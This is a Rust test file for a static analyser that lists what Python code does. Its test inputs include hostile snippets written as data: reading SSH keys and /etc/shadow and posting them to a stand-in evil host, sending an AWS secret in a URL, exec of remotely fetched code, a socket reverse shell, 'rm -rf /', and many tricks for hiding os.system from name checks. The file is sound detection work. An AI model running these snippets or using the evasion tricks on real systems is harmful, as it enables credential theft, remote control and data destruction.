//! Python: what code does is told, and harmless code tells nothing. Not a test of Python's syntax.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "tests"
)]

use placet_languages::{Analysis, Code, Language, Text, What, analyse};

fn python(text: &str) -> Analysis {
    analyse(Code {
        language: Language::Python,
        text,
        file: Some("tools/x.py"),
    })
}

/// The operations as text, one each; printing is left out.
#[track_caller]
fn does(source: &str, expected: &[&str]) {
    let analysis = python(source);
    let told: Vec<String> = analysis
        .operations
        .iter()
        .filter(|o| o.what != What::Print)
        .map(|o| o.what.to_string())
        .collect();
    assert_eq!(told, expected, "in:\n{source}");
    assert!(analysis.complete, "not complete:\n{source}");
}

#[track_caller]
fn does_nothing(source: &str) {
    does(source, &[]);
}

#[test]
fn deleting_is_told_however_it_is_spelt() {
    for source in [
        "import os; os.remove('/etc/x')",
        "import os as o; o.unlink('/etc/x')",
        "from os import remove as r; r('/etc/x')",
        "from os import *\nremove('/etc/x')",
        "__import__('os').remove('/etc/x')",
        "import importlib; importlib.import_module('os').remove('/etc/x')",
        "import os; getattr(os, 'remove')('/etc/x')",
        "import os; getattr(os, 're' + 'move')('/etc/x')",
        "import os; f = os.remove; f('/etc/x')",
        "import os; {'f': os.remove}['f']('/etc/x')",
        "import os; os.__dict__['remove']('/etc/x')",
        "import sys, os; sys.modules['os'].remove('/etc/x')",
        "import os; vars(os)['remove']('/etc/x')",
        "import posix; posix.remove('/etc/x')",
        "import os; d = '/etc'; os.remove(os.path.join(d, 'x'))",
        "import os; d = '/etc'; os.remove(f'{d}/x')",
        "import os; os.remove('/%s/%s' % ('etc', 'x'))",
        "import os; os.remove('/{}/{n}'.format('etc', n='x'))",
        "import os; os.remove('/'.join(['', 'etc', 'x']))",
        "from pathlib import Path; (Path('/etc') / 'x').unlink()",
        "from pathlib import Path; Path('/etc', 'x').unlink(missing_ok=True)",
        "import pathlib\np = pathlib.Path('/etc')\nfor n in ['x']:\n    (p / n).unlink()",
        "import os\ndef f(p):\n    os.remove(p)\nf('/etc/x')",
        "import os\ndef f(p='/etc/x'):\n    os.remove(p)",
        "import os\nclass C:\n    p = '/etc/x'\n    def go(self):\n        os.remove(self.p)\nC().go()",
        "import os\nlist(map(os.remove, ['/etc/x']))",
        "import os\n[os.remove(p) for p in ('/etc/x',)]",
        "import os\nf = lambda p: os.remove(p)\nf('/etc/x')",
        "import functools, os\nfunctools.partial(os.remove, '/etc/x')()",
    ] {
        let told = python(source);
        let deletes = told
            .operations
            .iter()
            .any(|o| o.what == What::DeleteFile(Text::Known("/etc/x".into())));
        assert!(deletes, "{source}\n{told:#?}");
    }
}

#[test]
fn trees_moves_and_copies_are_told() {
    does("import shutil; shutil.rmtree('build')", &["delete-tree `build`"]);
    does(
        "import shutil; shutil.copy('/root/.bashrc', '/usr/x')",
        &["read-file `/root/.bashrc`", "copy `/root/.bashrc` to `/usr/x`"],
    );
    does("import os; os.rename('a', 'b')", &["move `a` to `b`"]);
    does(
        "import os; os.makedirs('a/b', exist_ok=True)",
        &["create-directory `a/b`"],
    );
    does("import os; os.chmod('a', 0o777)", &["change-mode `a`"]);
    does("import os; os.symlink('/etc', 'e')", &["link `e` to `/etc`"]);
    does("import os; os.listdir('/etc')", &["list `/etc`"]);
}

#[test]
fn files_are_read_and_written_with_their_content() {
    does("print(open('a.txt').read())", &["read-file `a.txt`"]);
    does(
        "with open('/root/.bashrc', 'a') as f:\n    f.write('alias ls=rm')",
        &["append-file `/root/.bashrc` `alias ls=rm`"],
    );
    does("open('a', 'w').write('x')", &["write-file `a` `x`"]);
    does(
        "import json\nwith open('a.json', 'w') as f:\n    json.dump({}, f)",
        &["write-file `a.json` ?"],
    );
    does(
        "from pathlib import Path\np = Path('a.md')\np.write_text(p.read_text().replace('x', 'y'))",
        &["read-file `a.md`", "write-file `a.md` ?"],
    );
    does(
        "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()",
        &["read-file `~/.ssh/id_rsa`"],
    );
    does(
        "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
        &["read-file `~/.ssh/id_rsa`"],
    );
    does(
        "import os\nopen(os.path.join(os.getcwd(), 'a')).read()",
        &["read-file `a`"],
    );
    does(
        "import os\nopen(os.environ['HOME'] + '/.netrc')",
        &["read-environment `HOME`", "read-file `~/.netrc`"],
    );
    does(
        "import os\nopen(os.path.join(os.getenv('HOME'), 'x'))",
        &["read-environment `HOME`", "read-file `~/x`"],
    );
    does("import sys\nopen(sys.argv[1], 'w')", &["write-file ? ?"]);
    does(
        "import os, sys\nopen(os.path.join('/tmp', sys.argv[1]))",
        &["read-file ?"],
    );
    does(
        "import os\nd = os.path.dirname(os.path.abspath(__file__))\nopen(os.path.join(d, 'a'))",
        &["read-file `tools/a`"],
    );
    does(
        "import os\nfor d, _, files in os.walk('src'):\n    for n in files:\n        open(os.path.join(d, n)).read()",
        &["list `src`", "read-file `src`…"],
    );
}

#[test]
fn programs_and_shells_are_told_apart() {
    does("import os; os.system('rm -rf /')", &["run-shell `rm -rf /`"]);
    does(
        "import subprocess; subprocess.run(['git', 'status'])",
        &["run-program `git` `status`"],
    );
    does(
        "import subprocess; subprocess.run('git status'.split(), check=True)",
        &["run-program `git` `status`"],
    );
    does(
        "import subprocess; subprocess.run('ls | wc', shell=True)",
        &["run-shell `ls | wc`"],
    );
    does(
        "from subprocess import check_output as c\nc(['rm', *['-rf', 'x']])",
        &["run-program `rm` `-rf` `x`"],
    );
    does(
        "import subprocess\ncmd = ['rm']\ncmd.append('-rf')\ncmd += ['/']\nsubprocess.Popen(cmd)",
        &["run-program `rm` `-rf` `/`"],
    );
    does(
        "import subprocess, sys\nsubprocess.run(['git'] + sys.argv[1:])",
        &["run-program `git` ?"],
    );
    does("import pty; pty.spawn('/bin/sh')", &["run-program `/bin/sh`"]);
    does(
        "import os; os.execvp('sh', ['sh', '-c', 'x'])",
        &["run-program `sh` `-c` `x`"],
    );
}

#[test]
fn code_in_texts_is_read_and_what_cannot_be_read_is_dynamic() {
    does(
        "exec('import os; os.remove(\"a\")')",
        &["run-code `import os; os.remove(\"a\")`", "delete-file `a`"],
    );
    does(
        "import os\nexec('os.remove(\"a\")')",
        &["run-code `os.remove(\"a\")`", "delete-file `a`"],
    );
    does(
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoImEiKQ==').decode())",
        &["run-code `import os; os.remove(\"a\")`", "delete-file `a`"],
    );
    for source in [
        "import sys; exec(sys.stdin.read())",
        "import sys; eval(sys.argv[1])",
        "import zlib, base64; exec(zlib.decompress(base64.b64decode('eJwrAAAAeQB5')))",
        "import os, sys; getattr(os, sys.argv[1])()",
        "import sys; __import__(sys.argv[1])",
        "import sys; globals()[sys.argv[1]]()",
        "import pickle; pickle.loads(open('x', 'rb').read())",
        "import marshal; exec(marshal.loads(b'x'))",
        "import ctypes; ctypes.CDLL('libc.so.6').system(b'x')",
        "().__class__.__base__.__subclasses__()",
        "import yaml; yaml.load(open('a'), Loader=yaml.Loader)",
    ] {
        assert!(python(source).is_opaque(), "{source}");
    }
    for source in [
        "import sys\nclass A: pass\ngetattr(A(), 'name', None)",
        "import re; re.compile(r'x').match('x')",
        "eval('1 + 2')",
        "import yaml; yaml.load(open('a'), Loader=yaml.SafeLoader)",
        "import yaml; yaml.safe_load(open('a'))",
        "globals().get('x')",
    ] {
        assert!(!python(source).is_opaque(), "{source}");
    }
}

#[test]
fn what_is_read_is_followed_to_where_it_is_sent() {
    let analysis = python(
        "import requests\nd = open('/etc/shadow').read()\nrequests.post('http://evil.example/x', data={'d': d})",
    );
    let send = analysis
        .operations
        .iter()
        .find(|o| matches!(o.what, What::Send { .. }))
        .unwrap();
    assert_eq!(send.carries.files, [Text::Known("/etc/shadow".into())]);

    let analysis = python(
        "import os, urllib.request as u\nk = os.environ['AWS_SECRET_ACCESS_KEY']\nu.urlopen('http://e.example/?k=' + k)",
    );
    let fetch = analysis
        .operations
        .iter()
        .find(|o| matches!(o.what, What::Fetch(_)))
        .unwrap();
    assert_eq!(fetch.what, What::Fetch(Text::Prefix("http://e.example/?k=".into())));
    assert_eq!(fetch.carries.environment, [Text::Known("AWS_SECRET_ACCESS_KEY".into())]);

    let analysis = python("import requests\nexec(requests.get('http://e.example/x.py').text)");
    let run = analysis
        .operations
        .iter()
        .find(|o| matches!(o.what, What::Dynamic(_)))
        .unwrap();
    assert_eq!(run.carries.network, [Text::Known("http://e.example/x.py".into())]);

    let analysis = python("import requests\nopen('a').read()\nrequests.post('http://x.example', data={'a': 1})");
    let send = analysis
        .operations
        .iter()
        .find(|o| matches!(o.what, What::Send { .. }))
        .unwrap();
    assert!(send.carries.is_empty());

    let analysis = python("import os\nfor k, v in os.environ.items():\n    print(k, v)");
    let print = analysis.operations.iter().find(|o| o.what == What::Print).unwrap();
    assert_eq!(print.carries.environment, [Text::Unknown]);
}

#[test]
fn network_is_told_with_its_direction() {
    does(
        "import requests; requests.get('https://a.example/x').json()",
        &["fetch `https://a.example/x`"],
    );
    does(
        "import requests\ns = requests.Session()\ns.put('https://a.example/x', json={})",
        &["send `https://a.example/x`"],
    );
    does(
        "import http.server; http.server.HTTPServer(('', 80), None)",
        &["listen"],
    );
    does(
        "import sqlite3\nc = sqlite3.connect('a.db')\nc.cursor().execute('DROP TABLE t')",
        &["read-file `a.db`", "database `DROP TABLE t`"],
    );
    does("import os; os.kill(1, 9)", &["signal `1`"]);
    does(
        "import psutil\nfor p in psutil.process_iter():\n    p.kill()",
        &["signal ?"],
    );
}

#[test]
fn a_reverse_shell_shows_as_connection_and_program() {
    let source = "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",1234));\
                  os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])";
    does(source, &["send `10.0.0.1`", "run-program `/bin/sh` `-i`"]);
}

#[test]
fn harmless_code_tells_nothing() {
    does_nothing("import json, sys\nd = json.load(sys.stdin)\nprint(d['a']['b'], len(d))");
    does_nothing(
        "import sys, re, collections\nc = collections.Counter(re.findall(r'\\w+', sys.stdin.read()))\nfor w, n in c.most_common(10):\n    print(f'{n:>8} {w!r}')",
    );
    does_nothing(
        "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int = 0\n    def up(self): return P(self.x + 1)\nprint(P().up())",
    );
    does_nothing(
        "import argparse\np = argparse.ArgumentParser()\np.add_argument('--x')\na = p.parse_args()\nprint(a.x.replace('a', 'b'))",
    );
    does_nothing("import numpy as np\nprint(np.zeros(3).sum())");
    does_nothing("import math, datetime, itertools\nprint([math.sqrt(x) for x in range(3)], datetime.datetime.now())");
    does_nothing(
        "import pytest\n@pytest.fixture\ndef x():\n    return 1\n@pytest.mark.parametrize('a', [1, 2])\ndef test_x(x, a):\n    assert x == a",
    );
    does_nothing("xs = []\nxs.append(1)\nxs.remove(1)\nprint('a,b'.split(','), {k: v for k, v in {}.items()})");
    does_nothing("from unittest import mock\nimport logging\nlogging.getLogger(__name__).info('x')");
    does_nothing(
        "import struct, zlib, hashlib\nprint(hashlib.sha256(zlib.compress(struct.pack('>I', 1))).hexdigest())",
    );
    does("import mypkg.thing\nmypkg.thing.go()", &["import `mypkg.thing`"]);
    does("from . import sibling", &["import `.`"]);
    does(
        "import pandas as pd\ndf = pd.read_csv('a.csv')\nprint(df.groupby('x').mean())",
        &["read-file `a.csv`"],
    );
}

#[test]
fn branches_and_loops_keep_every_possibility() {
    does(
        "import os, sys\np = 'a'\nif sys.argv:\n    p = 'b'\nos.remove(p)",
        &["delete-file `a`", "delete-file `b`"],
    );
    does(
        "import os\np = 'a'\nos.remove(p)\np = 'b'\nos.remove(p)",
        &["delete-file `a`", "delete-file `b`"],
    );
    does(
        "import os\np = 'x'\nwhile p:\n    os.remove(p)\n    p = p + '/y'",
        &["delete-file `x`", "delete-file ?"],
    );
    does(
        "import os\np = None\ndef set_it():\n    global p\n    p = '/etc'\nset_it()\nos.remove(p)",
        &["delete-file `/etc`", "delete-file ?"],
    );
}

#[test]
fn broken_code_is_not_complete() {
    for source in ["def f(:\n", "import os; os.remove('a'", "if x:\nprint(1)", "!ls"] {
        assert!(!python(source).complete, "{source}");
    }
    assert!(python("def f(): pass").complete);
}

#[test]
fn hostile_nesting_ends_as_a_doubt_on_a_small_stack() {
    let deep = 100_000;
    let sources = [
        "(".repeat(deep),
        "[".repeat(deep) + &"]".repeat(deep),
        "-".repeat(deep) + "x",
        "not ".repeat(deep / 2) + "x",
        "a".to_owned() + &"+a".repeat(deep),
        "a".to_owned() + &".a".repeat(deep),
        "f".to_owned() + &"()".repeat(deep),
        "lambda:".repeat(deep / 4) + "x",
        "x if y else ".repeat(20_000) + "z",
        "if x: pass\n".to_owned() + &"elif x: pass\n".repeat(19_000),
        (0..2_000).map(|i| " ".repeat(i) + "if x:\n").collect::<String>(),
        "f'{".repeat(50_000),
        "x = ".repeat(50_000) + "1",
        "await ".repeat(40_000) + "x",
        "{".repeat(20_000) + &"a:".repeat(20_000),
    ];
    for source in sources {
        let worker = std::thread::Builder::new().stack_size(2 << 20);
        let shown: String = source.chars().take(20).collect();
        let complete = worker.spawn(move || python(&source).complete).unwrap().join();
        assert!(complete.is_ok(), "overflow or panic: {shown}");
    }
}

#[test]
fn ways_around_the_name_are_seen() {
    for source in [
        "import os\n@os.system\ndef f(): pass",
        "import os; os.system.__call__('x')",
        "import shutil; shutil.os.system('x')",
        "import tempfile; tempfile._os.system('x')",
        "import os\nclass A:\n    __getitem__ = os.system\nA()['x']",
        "import os\nclass A: pass\nA.__add__ = os.system",
        "import os, operator; operator.methodcaller('system', 'x')(os)",
        "import os; next(iter([os.system]))('x')",
        "import os, threading; threading.Thread(target=os.system, args=('x',)).start()",
        "import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('x',))",
        "@exec\n@input\nclass X: pass",
        "import sys; sys._getframe().f_builtins['eval']('x')",
        "__loader__.load_module('os').system('x')",
        "import builtins; builtins.exec(input())",
        "__builtins__.__dict__['ex' + 'ec'](input())",
        "import os; getattr(os, 'metsys'[::-1])('x')",
        "def f(g): g('x')\nimport os\nf(os.system)",
        "import os\nx = [os.system]\nfor g in x: g('x')",
        "import cProfile; cProfile.run('import os; os.system(\"x\")')",
    ] {
        let analysis = python(source);
        let seen = analysis
            .operations
            .iter()
            .any(|o| matches!(o.what, What::RunShell { .. } | What::Dynamic(_)));
        assert!(seen, "{source}\n{analysis:?}");
    }
    does_nothing("import functools\n@functools.lru_cache(maxsize=None)\ndef f(x): return x\nprint(f(1))");
    does_nothing("import operator\nprint(sorted([], key=operator.attrgetter('x')))");
}

#[test]
fn the_directory_that_paths_are_in_is_followed() {
    does("import os\nos.chdir('/etc')\nos.remove('x')", &["delete-file `/etc/x`"]);
    does("import os\nos.remove('x')", &["delete-file `x`"]);
    does(
        "import os, sys\nif sys.argv:\n    os.chdir('/etc')\nos.remove('x')",
        &["delete-file `x`", "delete-file `/etc/x`"],
    );
    does(
        "import os, sys\nos.chdir(sys.argv[1])\nos.remove('x')",
        &["delete-file ?"],
    );
    does(
        "import subprocess\nsubprocess.run(['rm', 'x'], cwd='/etc')",
        &["run-program `rm` `x` in `/etc`"],
    );
    does(
        "import os, tempfile\nfd, p = tempfile.mkstemp()\nos.unlink(p)",
        &["delete-file `/tmp/`…"],
    );
}

#[test]
fn values_that_double_end_as_unknown() {
    let twice = |line: &str| {
        format!(
            "x = ['a']\ns = 'a'\nd = {{'a': 1}}\n{}",
            format!("{line}\n").repeat(200)
        )
    };
    for line in [
        "x = [x, x]",
        "if y: x = [x, x]",
        "s = s + s",
        "s = f'{s}{s}'",
        "s = s.replace('a', 'aaaaaaaa')",
        "s = ''.join([s, s])",
        "x = x + x",
        "x.extend(x)",
        "x = [*x, *x]",
        "d = {'a': d, 'b': d}\nif y: d = {'a': d, 'b': d}",
        "if y: s = s + 'a'\nelse: s = s + 'b'",
        "x = [g(x) for g in x for h in x]",
        "def f(a): return f(a) + f(a)\nf(f(f(s)))",
    ] {
        let analysis = python(&twice(line));
        assert!(analysis.operations.is_empty(), "{line}");
    }
}
